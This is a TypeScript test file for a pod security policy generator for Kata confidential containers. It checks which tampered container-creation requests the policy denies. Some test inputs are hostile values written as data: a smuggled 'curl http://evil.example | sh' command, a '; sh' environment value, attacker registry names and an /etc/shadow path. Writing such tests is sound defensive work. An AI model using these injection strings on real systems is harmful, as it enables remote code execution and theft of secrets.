import { expect, test } from "vitest";
import type { ImageFacts } from "../../../core/images/lock";
import type { PodSource } from "../../../core/kubernetes/podSource";
import { CONTAINERD } from "../../../core/policy/derive/runtime";
import { type OpenPolicy, openPolicy } from "../../../core/policy/engine";
import { generatePolicy } from "../../../core/policy/generate";
import type { ModelledRequest } from "../../../core/policy/selfCheck/requests";
import { PolicyPreset, type PolicySpec } from "../../../core/policy/spec";
import {
    type Attack,
    attacksOn,
    CONTAINER_TYPE,
    IMAGE_NAME,
    mountAt,
    onCreation,
    pullOf,
    storageOf,
} from "./attacks/attack";
import { HARMLESS_TEXTS } from "./attacks/sealed";
import type { Creation, Exec, Storage } from "./requestTypes";
import { IMAGES } from "./richPod";
import { BASELINE, historyBefore, indexOf, inputOf, openAfter, PEER, requestsOf, STRICT, TILL } from "./scenario";
import { inRust, withMark } from "./spellings";

const app = onCreation("app");
const sandbox = onCreation("the sandbox");
const tagged = onCreation("tagged", TILL);
const baseline = onCreation("app", BASELINE);
const peer = onCreation("app", PEER);
const TERMINATION = "io.kubernetes.container.terminationMessage";

/** The kubelet masks these since 1.34, 1.33.3 and 1.32.7, for each processor: Kubernetes pull request 131018. */
const THROTTLE = [0, 1, 95].map((index) => `/sys/devices/system/cpu/cpu${index}/thermal_throttle`);

function again(driver: string): (input: Creation) => void {
    return (input) => {
        input.storages.push(storageOf(input, driver));
    };
}

function withTermination({ OCI }: Creation): void {
    OCI.Annotations[`${TERMINATION}Path`] = "/dev/termination-log";
    OCI.Annotations[`${TERMINATION}Policy`] = "FallbackToLogsOnError";
}

const RIGHTS = ["Bounding", "Effective", "Permitted"] as const;
const NO_HOOKS = {
    Prestart: [],
    CreateRuntime: [],
    CreateContainer: [],
    StartContainer: [],
    Poststart: [],
    Poststop: [],
};
const MARK = `"${CONTAINER_TYPE}":"container"`;

function pulls(what: string, ...options: readonly string[]): Attack {
    return app(`guest pull: ${what}`, (input) => {
        pullOf(input).driver_options = options.map((option) => option.replace(/^{/, "image_guest_pull={"));
    });
}

function named(what: string, image: string): Attack {
    return tagged(what, (input) => {
        pullOf(input).source = image;
        input.OCI.Annotations[IMAGE_NAME] = image;
    });
}

/** The same pod as other nodes and versions ask for it, and changes that the guest makes nothing of. */
const VARIANTS: readonly Attack[] = [
    ...HARMLESS_TEXTS,
    // In the sandbox the guest runs a program of its own disk, whatever the request says: Kata
    // `src/agent/src/confidential_data_hub/image.rs`. AKS's pause image has no user and no PATH.
    sandbox("another program as the sandbox", ({ OCI }) => {
        OCI.Process.Args = ["/bin/sh"];
    }),
    sandbox("another environment and other rights of the sandbox", ({ OCI }) => {
        OCI.Process.Env = ["LD_PRELOAD=/tmp/x.so"];
        OCI.Process.NoNewPrivileges = false;
        OCI.Process.Capabilities.Effective.push("CAP_SYS_ADMIN");
    }),
    // containerd 2.1 `cgroup_writable`: what a container may write there is its own limits.
    app("/sys/fs/cgroup: writable", (input) => {
        mountAt(input, "/sys/fs/cgroup").options = ["nodev", "noexec", "nosuid", "relatime", "rw"];
    }),
    app("/sys/fs/cgroup: with options of cgroups v2", (input) => {
        mountAt(input, "/sys/fs/cgroup").options.push("nsdelegate", "memory_recursiveprot");
    }),
    // Base specs of containerd, as on EKS.
    ...[1024, 1048576].map((Soft) =>
        app(`a limit of ${Soft} open files`, ({ OCI }) =>
            OCI.Process.Rlimits.push({ Type: "RLIMIT_NOFILE", Hard: 1048576, Soft }),
        ),
    ),
    app("hooks of which all lists are empty", ({ OCI }) => {
        OCI.Hooks = NO_HOOKS;
    }),
    // The agent reads both spellings alike, so that a mixture says nothing else: Kata `src/libs/protocols/src/trans.rs`.
    app("the mount namespace in both spellings", ({ OCI }) => OCI.Linux.Namespaces.push({ Type: "mnt", Path: "" })),
    app("a cgroup namespace of its own", ({ OCI }) => OCI.Linux.Namespaces.push({ Type: "cgroup", Path: "" })),
    app("a capability in both spellings", ({ OCI }) => {
        OCI.Process.Capabilities.Bounding.push("NET_BIND_SERVICE");
    }),
    app("each set of capabilities in another spelling", ({ OCI }) => {
        OCI.Process.Capabilities.Effective = ["NET_BIND_SERVICE"];
    }),
    app("the Rust runtime's capabilities next to the Go runtime's namespaces", ({ OCI }) => {
        for (const set of RIGHTS) {
            OCI.Process.Capabilities[set] = ["NET_BIND_SERVICE"];
        }
    }),
    peer("a directory in the folder of one runtime, another in that of the other", (input) => {
        for (const place of [...input.storages, mountAt(input, "/scratch")]) {
            const key = "mount_point" in place ? "mount_point" : "source";
            const path = String(Reflect.get(place, key));
            Reflect.set(
                place,
                key,
                path.replace(/containers\/([^/]+\/rootfs\/local\/scratch)$/, "containers/passthrough/$1"),
            );
        }
    }),
    // Of a key that is there twice, policy and agent take the last; of a field, the agent takes none and refuses.
    pulls("the mark twice, the right one last", `{"metadata":{"${CONTAINER_TYPE}":"sandbox",${MARK}}}`),
    pulls("metadata twice, the right one last", '{"metadata":{}}'.replace("}}", `},"metadata":{${MARK}}}`)),
    pulls("the mark in each of two options", `{"metadata":{${MARK}}}`, `{"metadata":{${MARK}}}`),
    pulls(
        "labels of the snapshotter next to the mark",
        `{"metadata":{${MARK},"containerd.io/snapshot/image-layers":"sha256:0"}}`,
    ),
    // The agent finds no image in such an option and refuses.
    pulls("metadata without the option's name", ` {"metadata":{${MARK}}}`),
    // containerd 2 names an image as the pod does, older ones leave out the tag before a digest.
    named("an image with its tag", IMAGES.app.replace("@", ":v1@")),
    named("an image without its tag", IMAGES.app),
    ...[0, 1, 40].map((left) =>
        tagged(`all capabilities are ${left} on this node`, ({ OCI }) => {
            for (const set of RIGHTS) {
                OCI.Process.Capabilities[set] = OCI.Process.Capabilities[set].slice(0, left);
            }
        }),
    ),
    // runtime-rs hands a command the limits of its container too.
    attacksOn<Exec>(
        STRICT,
        "ExecProcessRequest",
        "app",
        0,
    )("with a limit of open files", ({ process }) => {
        process.Rlimits.push({ Type: "RLIMIT_NOFILE", Hard: 1048576, Soft: 65536 });
    }),
    app("paths of an Intel processor are masked", ({ OCI }) => OCI.Linux.MaskedPaths.push(...THROTTLE)),
    app("interrupts are masked", ({ OCI }) => OCI.Linux.MaskedPaths.push("/proc/interrupts")),
    // kata-deploy has containerd pass these on: Kata `tools/packaging/kata-deploy`.
    app("annotations about the last words", withTermination),
    baseline("annotations about the last words", withTermination),
    // Kata `src/runtime/virtcontainers/kata_agent.go`: a storage for each mount.
    app("a disk for each mount of a volume", again("blk")),
    app("memory for each mount of a volume", again("ephemeral")),
    peer("a directory for each mount of a volume", again("local")),
    baseline("memory for each mount of a volume", again("ephemeral")),
    app("a disk of the pod's that this container does not mount", (input) => {
        const disk: Storage = { ...storageOf(input, "blk"), source: "00/other" };
        disk.mount_point = `/run/kata-containers/sandbox/storage/${Buffer.from(disk.source).toString("base64")}`;
        input.storages.push(disk);
    }),
    // runtime-rs hands a command the whole process of its container.
    attacksOn<Exec>(
        STRICT,
        "ExecProcessRequest",
        "app",
        0,
    )("with the rights of its container", ({ process }) => {
        const rights = ["CAP_NET_BIND_SERVICE"];
        const all = { Bounding: rights, Effective: rights, Permitted: rights, Inheritable: [], Ambient: [] };
        Object.assign(process, { Capabilities: all, NoNewPrivileges: true });
    }),
    // containerd `internal/cri/server/container_execsync.go`: it adds TERM to a command with a terminal.
    attacksOn<Exec>(
        STRICT,
        "ExecProcessRequest",
        "app",
        4,
    )("with a terminal", ({ process }) => {
        process.Terminal = true;
        process.Env.push("TERM=xterm");
    }),
];

test.each(VARIANTS.map((variant) => [`${variant.on.slice(0, 2).join(" ")}: ${variant.what}`, variant] as const))(
    "%s is allowed",
    (_, { scenario, on, change }) => {
        const history = historyBefore(scenario, indexOf(scenario, ...on));
        const input = inputOf(scenario, ...on);
        change(input);
        for (const spell of [withMark, inRust]) {
            const policy = openAfter(
                scenario,
                history.map((call) => spell(call)),
            );
            expect(policy.evaluate(on[0], spell({ name: on[0], input }).input)).toMatchObject({ allowed: true });
            policy.close();
        }
    },
);

const IMAGE = `registry.example/web@sha256:${"1".repeat(64)}`;

interface Other {
    readonly kind?: PodSource["kind"];
    readonly image?: ImageFacts;
    readonly policy?: Partial<PolicySpec>;
}

/** A pod of one container, its policy, and the requests that the model has for it. */
class Small {
    readonly requests: readonly ModelledRequest[];
    readonly policy: OpenPolicy;

    constructor(container: object, spec: object = {}, { kind = "Deployment", image = {}, policy = {} }: Other = {}) {
        const imageLock = { [IMAGE]: { entrypoint: ["/web"], ...image } };
        const pod: PodSource = {
            kind,
            name: "web",
            spec: { containers: [{ name: "web", image: IMAGE, ...container }], ...spec },
            path: ["spec"],
        };
        const strict: PolicySpec = { preset: PolicyPreset.Strict, imageLock };
        const { pod: expected } = generatePolicy(strict, { pod, localVolumes: false });
        const { text } = generatePolicy({ ...strict, ...policy }, { pod, localVolumes: false });
        if (expected === undefined) {
            throw new Error("no pod");
        }
        this.requests = requestsOf(expected);
        this.policy = openPolicy(String(text));
    }

    input<T>(name: string, about = "web"): T {
        return structuredClone(this.requests.find((one) => one.name === name && one.about === about)?.input) as T;
    }

    /** Whether the container may be created, changed as it says. */
    creates(change: (input: Creation) => unknown): boolean {
        const input = this.input<Creation>("CreateContainerRequest");
        change(input);
        return this.policy.evaluate("CreateContainerRequest", input).allowed;
    }
}

const HEX = `@sha256:${"1".repeat(64)}`;
const NGINX = `docker.io/library/nginx${HEX}`;

/** What the pod writes. containerd 1.7 fills it up, containerd 2 leaves it (`UserSpecifiedImage`), and the guest fills it up. */
test.each([
    `nginx${HEX}`,
    `library/nginx${HEX}`,
    `docker.io/nginx${HEX}`,
    `nginx:1.29${HEX}`,
    `index.docker.io/library/nginx${HEX}`,
])("an image of Docker Hub written as %s goes by that name and in full", (image) => {
    const small = new Small({ image }, {}, { policy: { imageLock: { [NGINX]: { entrypoint: ["/web"] } } } });
    const isTaken = (name: string) =>
        small.creates(({ storages, OCI }) => {
            Object.assign(storages[0] ?? {}, { source: name });
            OCI.Annotations["io.kubernetes.cri.image-name"] = name;
        });
    expect([image, NGINX].filter((name) => !isTaken(name))).toEqual([]);
    const others = [
        `nginx${HEX}`,
        `library/nginx${HEX}`,
        `docker.io/nginx${HEX}`,
        `nginx:1.29${HEX}`,
        `nginx:1.30${HEX}`,
        `index.docker.io/library/nginx${HEX}`,
        `registry.attacker.example/nginx${HEX}`,
        `docker.io/attacker/nginx${HEX}`,
        `nginx@sha256:${"2".repeat(64)}`,
        "nginx",
        "docker.io/library/nginx",
    ];
    expect(others.filter((name) => name !== image && isTaken(name))).toEqual([]);
});

const CLUSTER = [
    "KUBERNETES_SERVICE_HOST=10.96.0.1",
    "KUBERNETES_SERVICE_HOST=fd00::1",
    "KUBERNETES_SERVICE_PORT=443",
    "KUBERNETES_SERVICE_PORT_HTTPS=443",
    "KUBERNETES_PORT=tcp://[fd00::1]:443",
    "KUBERNETES_PORT_443_TCP=tcp://10.96.0.1:443",
    "KUBERNETES_PORT_443_TCP_PROTO=tcp",
    "KUBERNETES_PORT_443_TCP_PORT=443",
    "KUBERNETES_PORT_443_TCP_ADDR=10.96.0.1",
    "HOSTNAME=web-5d9c-x2x5z",
];
const OF_ANOTHER = ["REDIS_SERVICE_HOST=10.96.0.7", "REDIS_SERVICE_PORT_HTTP=80", "REDIS_PORT=tcp://10.96.0.7:80"];
const AMISS = [
    "HOSTNAME=other-5d9c-x2x5z",
    "KUBERNETES_SERVICE_HOST=evil.example",
    "KUBERNETES_SERVICE_PORT=443; sh",
    "KUBERNETES_HOST=1.2.3.4",
];

/** Kubernetes `pkg/kubelet/kubelet_pods.go`, `getServiceEnvVarMap`: the API server's variables are always there. */
test.each([
    [true, [...CLUSTER, ...OF_ANOTHER], AMISS],
    [false, CLUSTER, [...AMISS, ...OF_ANOTHER]],
])("variables of the cluster where enableServiceLinks is %s", (enableServiceLinks, allowed, denied) => {
    const pod = new Small({}, { enableServiceLinks });
    const takes = (variable: string) =>
        pod.creates(({ OCI }) => {
            const name = variable.slice(0, variable.indexOf("=") + 1);
            OCI.Process.Env = [...OCI.Process.Env.filter((other) => !other.startsWith(name)), variable];
        });
    expect(denied.filter(takes)).toEqual([]);
    expect(allowed.filter((variable) => !takes(variable))).toEqual([]);
});

const API = "https://$(KUBERNETES_SERVICE_HOST):$(KUBERNETES_SERVICE_PORT)";
const REDIS = "redis://$(REDIS_SERVICE_HOST)";
const MODE = { name: "MODE", valueFrom: { configMapKeyRef: { name: "settings", key: "mode" } } };

/** The argument as it is written, and as the kubelet hands it on. */
test.each([
    [API, "https://10.96.0.1:443", true],
    [API, "https://[fd00::1]:443", true],
    [API, "https://evil.example:443", false],
    [API, "https://1.2.3.4; curl http://evil.example | sh #:443", false],
    [API, API, false],
    [REDIS, "redis://10.96.0.7", true],
    [REDIS, REDIS, true],
    [REDIS, "redis://evil.example", false],
    ["$(OTHER)", "$(OTHER)", true],
    ["$(OTHER)", "", false],
    ["$(JOB_COMPLETION_INDEX)", "3", true],
    ["$(JOB_COMPLETION_INDEX)", "$(JOB_COMPLETION_INDEX)", true],
    ["$(JOB_COMPLETION_INDEX)", "x", false],
    ["--mode=$(MODE)", "--mode=whatever the ConfigMap says", true],
    ["--mode=$(MODE)", "whatever", false],
])("the argument %s as %s is allowed: %s", (written, sent, allowed) => {
    const inArgs = new Small({ args: [written], env: [MODE] }, {}, { kind: "Job" });
    expect(
        inArgs.creates(({ OCI }) => {
            OCI.Process.Args[1] = sent;
        }),
    ).toBe(allowed);
});

test("processes are shared with the sandbox container, and the sandbox makes no namespace of its own for them", () => {
    for (const shareProcessNamespace of [true, false]) {
        const { policy, input } = bound(new Small({}, { shareProcessNamespace }));
        const ask = (name: string, about: string, sandbox_pidns: boolean) =>
            policy.evaluate(name, { ...input<object>(name, about), sandbox_pidns }).allowed;
        expect(ask("CreateSandboxRequest", "the pod", true)).toBe(false);
        expect(ask("CreateSandboxRequest", "the pod", false)).toBe(true);
        expect(ask("CreateContainerRequest", "the sandbox", true)).toBe(false);
        expect(ask("CreateContainerRequest", "the sandbox", false)).toBe(true);
        expect(ask("CreateContainerRequest", "web", !shareProcessNamespace)).toBe(false);
        expect(ask("CreateContainerRequest", "web", shareProcessNamespace)).toBe(true);
    }
});

function bound(pod: Small): { policy: OpenPolicy; input: Small["input"] } {
    return { policy: pod.policy, input: pod.input.bind(pod) };
}

const VOLUMES = { volumes: [{ name: "data", emptyDir: {} }] };

/** containerd `internal/cri/opts`, `WithMounts`: the root takes part as the mount does. */
test.each([
    ["HostToContainer", "rslave", "rshared"],
    ["Bidirectional", "rshared", "rslave"],
    ["None", "", "rslave"],
    [undefined, "", "rshared"],
])("mountPropagation %s gives the root %s", (mountPropagation, propagation, other) => {
    const mount = { name: "data", mountPath: "/data", ...(mountPropagation ? { mountPropagation } : {}) };
    const pod = new Small({ volumeMounts: [mount] }, VOLUMES);
    const model = pod.input<Creation>("CreateContainerRequest");
    expect(model.OCI.Linux.RootfsPropagation).toBe(propagation);
    expect(mountAt(model, "/data").options).toEqual(["rbind", propagation || "rprivate", "rw"]);
    const takes = (root: string, option: string) =>
        pod.creates((input) => {
            input.OCI.Linux.RootfsPropagation = root;
            mountAt(input, "/data").options = ["rbind", option, "rw"];
        });
    expect(takes(propagation, propagation || "rprivate")).toBe(true);
    expect(takes(propagation, "rprivate")).toBe(true);
    expect(takes("", "rprivate")).toBe(true);
    expect(takes(other, "rprivate")).toBe(false);
    expect(takes("", other)).toBe(false);
});

test("a slash at the end of a mount path stays, as the kubelet and containerd hand it on", () => {
    const mounts = [{ name: "config", mountPath: "/etc/web/" }];
    const pod = new Small({ volumeMounts: mounts }, { volumes: [{ name: "config", configMap: { name: "config" } }] });
    const model = pod.input<Creation>("CreateContainerRequest");
    expect(mountAt(model, "/etc/web/").source).toMatch(/-web$/);
    expect(pod.creates(() => undefined)).toBe(true);
    expect(pod.policy.evaluate("StartContainerRequest", { container_id: model.container_id }).allowed).toBe(true);
});

const LINKS = { enableServiceLinks: false };
const OF_IMAGE = ["PATH=/usr/bin", "PGDATA=/var/lib/data", "LANG=C", "LANG=C.UTF-8", "FLAG", "KEEP=1"];
const PATH = "PATH=/usr/bin";

/**
 * containerd `pkg/oci/spec_opts.go`, `replaceOrAppendEnvValues`: what the pod says of a variable comes after what the image
 * says, and the agent sets one after the other.
 */
test.each<[string, readonly string[], boolean]>([
    [
        "both, the pod's last",
        [PATH, "PGDATA=/var/lib/data", "LANG=C", "LANG=C.UTF-8", "KEEP=1", "PGDATA=/pg", "MODE=x"],
        true,
    ],
    [
        "the pod's alone, as a runtime may that knows better",
        [PATH, "LANG=C.UTF-8", "KEEP=1", "PGDATA=/pg", "MODE=x"],
        true,
    ],
    ["the image's last", [PATH, "LANG=C.UTF-8", "KEEP=1", "PGDATA=/pg", "PGDATA=/var/lib/data", "MODE=x"], false],
    ["the image's alone", [PATH, "LANG=C.UTF-8", "KEEP=1", "PGDATA=/var/lib/data", "MODE=x"], false],
    ["another one before", [PATH, "LANG=C.UTF-8", "KEEP=1", "PGDATA=/evil", "PGDATA=/pg", "MODE=x"], false],
    ["the pod's twice", [PATH, "LANG=C.UTF-8", "KEEP=1", "PGDATA=/pg", "PGDATA=/pg", "MODE=x"], false],
    ["the image's earlier one last", [PATH, "LANG=C.UTF-8", "LANG=C", "KEEP=1", "PGDATA=/pg", "MODE=x"], false],
    [
        "one of the image's twice that nothing takes the place of",
        [PATH, "LANG=C.UTF-8", "KEEP=1", "KEEP=1", "PGDATA=/pg", "MODE=x"],
        false,
    ],
    [
        "one of a ConfigMap's after the image's",
        [PATH, "MODE=image", "LANG=C.UTF-8", "KEEP=1", "PGDATA=/pg", "MODE=x"],
        true,
    ],
    [
        "one of a ConfigMap's before the image's",
        [PATH, "MODE=x", "LANG=C.UTF-8", "KEEP=1", "PGDATA=/pg", "MODE=image"],
        false,
    ],
])("a variable of the image that the pod sets anew: %s", (_, sent, allowed) => {
    const env = [{ name: "PGDATA", value: "/pg" }, MODE];
    const pod = new Small({ env }, LINKS, { image: { env: [...OF_IMAGE, "MODE=image"] } });
    const model = pod.input<Creation>("CreateContainerRequest");
    const asked = model.OCI.Process.Env.filter((one) => /^(PGDATA|LANG|FL)/.test(one));
    expect([...asked].sort()).toEqual(["LANG=C", "LANG=C.UTF-8", "PGDATA=/pg", "PGDATA=/var/lib/data"]);
    expect(pod.creates(() => undefined)).toBe(true);
    expect(
        pod.creates(({ OCI }) => {
            OCI.Process.Env = [...sent];
        }),
    ).toBe(allowed);
});

test("the same for a command", () => {
    const probe = { exec: { command: ["/web", "alive"] } };
    const env = [{ name: "PGDATA", value: "/pg" }];
    const pod = new Small({ env, livenessProbe: probe }, LINKS, { image: { env: ["PGDATA=/var/lib/data"] } });
    expect(pod.creates(() => undefined)).toBe(true);
    const takes = (change: (process: Exec["process"]) => void) => {
        const input = pod.input<Exec>("ExecProcessRequest");
        change(input.process);
        return pod.policy.evaluate("ExecProcessRequest", input).allowed;
    };
    expect(takes(() => undefined)).toBe(true);
    expect(takes(({ Env }) => Env.reverse())).toBe(false);
});

/** What the pod mounts, what the image declares or the message comes from, and what is mounted last. */
test.each<[string, object, ImageFacts, string]>([
    ["/data/", {}, { volumes: ["/data"] }, "/data"],
    ["/data", {}, { volumes: ["/data/"] }, "/data/"],
    ["/data/in", {}, { volumes: ["/data"] }, "/data"],
    ["/data/a/b", {}, { volumes: ["/data", "/data/a"] }, "/data"],
    ["/data/in", { terminationMessagePath: "/data" }, {}, "/data"],
    ["/var/run/secrets/kubernetes.io/serviceaccount/in", {}, {}, "/var/run/secrets/kubernetes.io/serviceaccount"],
])("nothing that the host fills hides the volume at %s: %o, %o", (mountPath, container, image, cover) => {
    const pod = new Small({ volumeMounts: [{ name: "data", mountPath }], ...container }, VOLUMES, { image });
    const model = pod.input<Creation>("CreateContainerRequest");
    const id = model.container_id;
    const covered = {
        ...model,
        OCI: { ...model.OCI, Mounts: model.OCI.Mounts.filter((one) => one.destination !== cover) },
    };
    const source = `/run/kata-containers/shared/containers/${id}-0123456789abcdef-evil`;
    covered.OCI.Mounts.push({ destination: cover, source, type_: "bind", options: ["rbind", "rprivate", "rw"] });
    const { allowed } = pod.policy.evaluate("CreateContainerRequest", covered);
    expect(allowed && pod.policy.evaluate("StartContainerRequest", { container_id: id }).allowed).toBe(false);
    const other = new Small({ volumeMounts: [{ name: "data", mountPath }], ...container }, VOLUMES, { image });
    expect(other.creates(() => undefined)).toBe(true);
    expect(other.policy.evaluate("StartContainerRequest", { container_id: id }).allowed).toBe(true);
});

test("a volume that an image declares without a slash is at the root", () => {
    const pod = new Small({}, {}, { image: { volumes: ["data"] } });
    expect(mountAt(pod.input<Creation>("CreateContainerRequest"), "/data").type_).toBe("bind");
});

/** Kubernetes `component-helpers/node/util/sysctl`, whose own cases these are. */
test.each([
    ["net/ipv4/ip_local_port_range", "net.ipv4.ip_local_port_range"],
    ["net.ipv4.conf.eno2/100.rp_filter", "net.ipv4.conf.eno2/100.rp_filter"],
    ["net/ipv4/conf/eno2.100/rp_filter", "net.ipv4.conf.eno2/100.rp_filter"],
    ["kernel/shm_rmid_forced", "kernel.shm_rmid_forced"],
])("the sysctl %s is asked for as %s", (written, sent) => {
    const pod = new Small({}, { securityContext: { sysctls: [{ name: written, value: "1" }] } });
    const input = pod.input<Creation>("CreateContainerRequest", "the sandbox");
    expect(Object.keys(input.OCI.Linux.Sysctl)).toContain(sent);
    expect(pod.policy.evaluate("CreateContainerRequest", input).allowed).toBe(true);
});

test("a volume may be mounted twice, with a storage for each", () => {
    const mounts = [
        { name: "data", mountPath: "/data" },
        { name: "data", mountPath: "/backup", readOnly: true },
    ];
    const pod = new Small({ volumeMounts: mounts }, VOLUMES);
    expect(pod.creates((input) => input.storages.push(storageOf(input, "blk")))).toBe(true);
});

/** The agent reads the file that the annotation names, where the policy lets the host ask for it. */
test.each<[string, object, string | undefined, readonly string[]]>([
    ["where diagnostics are on", { diagnostics: true }, undefined, ["/dev/termination-log"]],
    ["where the pod names it", { diagnostics: true }, "/tmp/last", ["/tmp/last"]],
    [
        "where the request is allowed by name",
        { allow: [{ request: "GetDiagnosticDataRequest", because: "tests" }] },
        undefined,
        ["/dev/termination-log"],
    ],
    ["but where nobody may ask", {}, "/tmp/last", ["/dev/termination-log", "/tmp/last", "/etc/shadow"]],
])("the last words are read from one file, %s", (_, policy, terminationMessagePath, files) => {
    for (const preset of [PolicyPreset.Strict, PolicyPreset.Baseline]) {
        const container = terminationMessagePath === undefined ? {} : { terminationMessagePath };
        const pod = new Small(container, {}, { policy: { ...policy, preset } });
        const takes = (path: string) =>
            pod.creates(({ OCI }) => {
                OCI.Annotations[`${TERMINATION}Path`] = path;
                OCI.Annotations[`${TERMINATION}Policy`] = "FallbackToLogsOnError";
            });
        expect(["/dev/termination-log", "/tmp/last", "/etc/shadow"].filter(takes)).toEqual(files);
    }
});

test("no path that is masked next to those of every node is a file of the container's", () => {
    const masks = (path: string) => new Small({}).creates(({ OCI }) => OCI.Linux.MaskedPaths.push(path));
    expect(CONTAINERD.paths.MaskedPaths.every(masks)).toBe(true);
    expect(["/etc/web", "/sys0/x", "/proc/1/root", "/sys/../etc", "/data/cpu0"].filter(masks)).toEqual([]);
});

test("a variable whose sealed text the cluster would complete is denied, whatever the text", () => {
    const level = { name: "LEVEL", valueFrom: { configMapKeyRef: { name: "config", key: "level" } } };
    const pod = new Small({ env: [level, { name: "A", value: "sealed.$(LEVEL)" }] });
    const sends = (text: string) =>
        pod.creates(({ OCI }) => {
            OCI.Process.Env = OCI.Process.Env.map((one) => (one.startsWith("A=") ? `A=${text}` : one));
        });
    expect(["sealed.x", "sealed.eyJhbGciOiJFUzI1NiJ9.e30.c2ln"].map(sends)).toEqual([false, false]);
});
